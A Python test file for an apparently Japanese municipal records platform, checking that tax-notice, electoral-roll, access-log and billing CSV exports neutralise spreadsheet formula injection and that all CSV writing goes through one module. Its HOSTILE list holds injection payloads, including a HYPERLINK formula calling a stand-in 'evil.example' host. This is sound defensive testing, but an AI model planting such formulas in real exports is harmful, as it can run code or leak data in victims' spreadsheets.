"""Issue 12 item 1: CSV formula injection.

User-entered text (氏名, 方書, 番地, an employer's name, a cost pool's name, an API client's
name, the X-Purpose and X-Terminal-Id headers) set to what a spreadsheet would run reaches
the four exports: the print-data CSV of the notice print job, the 選挙人名簿 CSV, the
access-log export job and the billing run CSV. Each file is read back with the csv module
and no text cell may start a formula; and every CSV writer of the code base is
tenants/csvout.py's.

Values with TAB or CR are written straight to the database: the input validation refuses
them (item 3), but rows stored before it, or by a migration, still reach the exports.
"""

from __future__ import annotations

import ast
import csv
import io
import re
from pathlib import Path
from typing import Any

import pytest
from django.core.files.storage import default_storage
from django.test import Client
from django.utils import timezone

from billing.models import AllocationRun, CostPool
from billing.services.allocation import allocation_run
from billing.tests.factories import UNEI
from juminkiroku.models import Atena, AtenaRireki
from juminkiroku.tests.factories import household_tennyu, person_fields
from tenants.accesslog.models import AccessAction, AccessLog
from tenants.accesslog.services import Actor, access_record
from tenants.api.authentication import apiclient_create
from tenants.csvout import FORMULA_STARTS
from tenants.db import connection
from tenants.jobs.models import Job, JobFile, JobStatus
from tenants.jobs.services import job_start
from tenants.models import StaffUser
from tests.personas import ALPHA_HOST, BETA_HOST, PORTAL_HOST
from zeimu.tests.test_notices import make_fuka

pytestmark = pytest.mark.django_db

HOSTILE = (
    '=HYPERLINK("http://evil.example/?x","詳細")',
    "+1",
    "-1+1",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
)
# Values that travel in HTTP headers (a header cannot carry CR; TAB goes in by the row)
HEADER_SAFE = HOSTILE[:4]
ACTOR = Actor(user_id=None, username="tester")
NUMBER = re.compile(r"-?\d+(\.\d+)?")
ROOT = Path(__file__).resolve().parent.parent


def rows_of(data: bytes, encoding: str = "utf-8-sig") -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode(encoding), newline="")))


def assert_neutralised(rows: list[list[str]], *, must_hold: list[str]) -> None:
    """No cell starts a formula (a plain number such as -1200 is a number, not text), and
    each hostile value is in the file as text, with the leading quote."""
    dangerous = [
        c for row in rows for c in row if c.startswith(FORMULA_STARTS) and not NUMBER.fullmatch(c)
    ]
    assert dangerous == []
    cells = {c for row in rows for c in row}
    for value in must_hold:
        assert "'" + value in cells, f"{value!r} did not reach the export"


def hostile_person(town: str, i: int, **extra: Any) -> Atena:
    """A resident whose 氏名, 方書 and 番地 are hostile values (different ones), written
    straight to the current row and its history."""
    _, (atena,) = household_tennyu(
        town, members=[person_fields(shimei=f"仮名　{i}", postal_code=f"240011{i}")]
    )
    values = {
        "shimei": HOSTILE[i % len(HOSTILE)],
        "katagaki": HOSTILE[(i + 1) % len(HOSTILE)],
        "banchi": HOSTILE[(i + 2) % len(HOSTILE)],
        **extra,
    }
    Atena.objects.filter(pk=atena.pk).update(**values)
    AtenaRireki.objects.filter(atena_id=atena.pk).update(**values)
    atena.refresh_from_db()
    return atena


def finished_file(job: Job, suffix: str) -> bytes:
    job.refresh_from_db()
    assert job.status == JobStatus.SUCCEEDED, [line.message for line in job.log.all()]
    (found,) = JobFile.objects.filter(job=job, name__endswith=suffix)
    with default_storage.open(found.path, "rb") as handle:
        data = handle.read()
    for path in JobFile.objects.filter(job=job).values_list("path", flat=True):
        default_storage.delete(path)
    return data


@pytest.mark.parametrize("encoding", ["utf-8-sig", "cp932"])
def test_notice_print_data(alpha, django_capture_on_commit_callbacks, encoding):
    # given: 6 taxpayers with hostile 氏名/方書/番地, three with a hostile employer
    connection.set_tenant(alpha.municipality)
    for i in range(len(HOSTILE)):
        atena = hostile_person("hayama", i)
        if i < 3:
            make_fuka(atena, futsu=30_000 + i)
        else:
            make_fuka(
                atena,
                futsu=10_000,
                kyuyo=120_000,
                shitei_no=f"0000{i:04d}",
                employer=HOSTILE[i],
            )
    # when
    with django_capture_on_commit_callbacks(execute=True):
        job = job_start(
            kind="zeimu_notice_print",
            params={
                "fiscal_year": 2025,
                "tsuchi_date": "2025-06-10",
                "print_data_encoding": "cp932" if encoding == "cp932" else "utf-8-sig",
            },
            actor=ACTOR,
        )
    rows = rows_of(finished_file(job, "_print_data.csv"), encoding)
    # then: every 氏名, 方書 and employer's name is there, as text
    assert len(rows) > len(HOSTILE)
    assert_neutralised(rows, must_hold=list(HOSTILE))


def test_senkyo_roll(alpha, beta, login):
    # given: hostile electors in 葉山町, and one in 寒川町 who must not appear
    connection.set_tenant(alpha.municipality)
    for i in range(len(HOSTILE)):
        hostile_person("hayama", i)
    connection.set_tenant(beta.municipality)
    hostile_person("samukawa", 0, shimei="=寒川町の人")
    connection.set_schema_to_public()
    viewer = login("hayama-viewer", ALPHA_HOST)
    # when
    for encoding in ("utf-8-sig", "cp932"):
        r = viewer.post(
            "/juminkiroku/senkyo/",
            {"kijun_date": timezone.localdate().isoformat(), "csv": "1", "encoding": encoding},
        )
        assert r["Content-Type"].startswith("text/csv")
        body = b"".join(r.streaming_content) if r.streaming else r.content
        rows = rows_of(body, encoding)
        # then: 6 electors, 氏名 / 番地 / 方書 neutralised, nobody from 寒川町
        assert len(rows) == 1 + len(HOSTILE)
        assert_neutralised(rows, must_hold=list(HOSTILE))
        assert not any("寒川町の人" in c for row in rows for c in row)


def test_access_log_export(alpha, beta, django_capture_on_commit_callbacks):
    # given: API systems with hostile names calling with hostile X-Purpose / X-Terminal-Id
    connection.set_tenant(alpha.municipality)
    (atena,) = household_tennyu("hayama")[1]
    connection.set_schema_to_public()
    for i, name in enumerate(HEADER_SAFE):
        _, key = apiclient_create(
            municipality=alpha.municipality, name=name, scopes=["juminkiroku:read"]
        )
        r = Client(HTTP_HOST=ALPHA_HOST, HTTP_AUTHORIZATION=f"Bearer {key}").get(
            f"/api/v1/juminkiroku/persons/{atena.pk}/",
            HTTP_X_PURPOSE=HEADER_SAFE[(i + 1) % 4],
            HTTP_X_TERMINAL_ID=HEADER_SAFE[(i + 2) % 4],
        )
        assert r.status_code == 200
    _, beta_key = apiclient_create(
        municipality=beta.municipality, name="=寒川町の連携", scopes=["platform:read"]
    )
    Client(HTTP_HOST=BETA_HOST, HTTP_AUTHORIZATION=f"Bearer {beta_key}").get("/api/v1/me/")
    # rows with TAB and CR, as written before the headers were validated
    connection.set_tenant(alpha.municipality)
    for i, value in enumerate(HOSTILE[4:]):
        access_record(
            actor=Actor(user_id=None, username="", api_client=value, terminal=HOSTILE[5 - i]),
            action=AccessAction.READ,
            gyomu="juminkiroku",
            screen="API 住民照会",
            record_type="atena",
            record_id=atena.pk,
            purpose=value,
        )
    assert AccessLog.objects.filter(api_client__in=HOSTILE).count() == len(HOSTILE)
    today = timezone.localdate().isoformat()
    # when
    with django_capture_on_commit_callbacks(execute=True):
        job = job_start(
            kind="accesslog_export",
            params={"date_from": today, "date_to": today},
            actor=ACTOR,
        )
    rows = rows_of(finished_file(job, ".csv"))
    # then: the APIシステム, 端末 and 利用目的 columns hold every value as text
    header = rows[0]
    for column in ("APIシステム", "端末", "利用目的"):
        at = header.index(column)
        assert {r[at] for r in rows[1:]} >= {"'" + v for v in HOSTILE}, column
    assert_neutralised(rows, must_hold=list(HOSTILE))
    assert not any("寒川町" in c for row in rows for c in row)


def test_billing_run_csv(world, login):
    # given: cost pools named by hostile values
    for i, name in enumerate(HOSTILE):
        CostPool.objects.create(
            consortium=world.consortium,
            fiscal_year=2025,
            name=name,
            amount_yen=1_000_000 + i,
            rule=UNEI,
            sort=i,
        )
    run = allocation_run(
        consortium=world.consortium,
        fiscal_year=2025,
        acting_user=StaffUser.objects.get(username="office"),
    )
    office = login("office", PORTAL_HOST)
    for encoding in ("utf-8-sig", "cp932"):
        # when
        r = office.get(f"/billing/runs/{run.pk}/csv/?encoding={encoding}")
        rows = rows_of(r.content, encoding)
        # then: the pool names are text; the amounts stay numbers
        assert rows[0][2:-1] == ["'" + v for v in HOSTILE]
        assert_neutralised(rows, must_hold=list(HOSTILE))
        assert all(NUMBER.fullmatch(c) for row in rows[1:] for c in row[2:])
    assert AllocationRun.objects.count() == 1
    # a member's town host has no such download
    assert login("hayama-admin", ALPHA_HOST).get(f"/billing/runs/{run.pk}/csv/").status_code == 404


# --- one writer ----------------------------------------------------------------------------

WRITER_NAMES = {"writer", "DictWriter"}


def _csv_writers(tree: ast.AST) -> list[int]:
    """Lines that make a csv module writer: ``csv.writer(…)``, ``csv.DictWriter(…)``,
    ``from csv import writer``, or the csv module under another name."""
    csv_names = {"csv"}
    lines = []
    for node in ast.walk(tree):
        if isinstance(node, ast.Import):
            for alias in node.names:
                if alias.name == "csv":
                    csv_names.add(alias.asname or "csv")
        elif (
            isinstance(node, ast.ImportFrom)
            and node.module in {"csv", "_csv"}
            and any(a.name in WRITER_NAMES or a.name == "*" for a in node.names)
        ):
            lines.append(node.lineno)
    for node in ast.walk(tree):
        if (
            isinstance(node, ast.Attribute)
            and node.attr in WRITER_NAMES
            and isinstance(node.value, ast.Name)
            and node.value.id in csv_names
        ):
            lines.append(node.lineno)
    return lines


def test_the_finder_finds_a_writer():
    # the scan below would pass on an empty list: prove it sees each form
    for source in (
        "import csv\ncsv.writer(f)\n",
        "import csv as c\nw = c.DictWriter(f, [])\n",
        "from csv import writer\n",
        "from csv import *\n",
    ):
        assert _csv_writers(ast.parse(source)), source
    assert _csv_writers(ast.parse("import csv\ncsv.reader(f)\n")) == []


def test_no_csv_writer_but_the_platform_one():
    found: list[str] = []
    sources = [
        p
        for p in ROOT.rglob("*.py")
        if not {".venv", "node_modules", ".git"} & set(p.relative_to(ROOT).parts)
        and "egg-info" not in str(p)
    ]
    assert len(sources) > 300  # the whole code base, not an empty folder
    for path in sources:
        rel = path.relative_to(ROOT).as_posix()
        if rel in {"tenants/csvout.py", "tests/test_csv_exports_hostile.py"}:
            continue
        lines = _csv_writers(ast.parse(path.read_text(encoding="utf-8"), filename=rel))
        found.extend(f"{rel}:{n}" for n in lines)
    assert found == [], "CSV must be written through tenants.csvout"
    # and the platform writer is the one the exports import
    for rel in (
        "tenants/printing/jobs.py",
        "tenants/jobkinds.py",
        "juminkiroku/views/rosters.py",
        "billing/views/portal.py",
    ):
        text = (ROOT / rel).read_text(encoding="utf-8")
        assert "tenants.csvout" in text or "tenants.forms.export" in text, rel
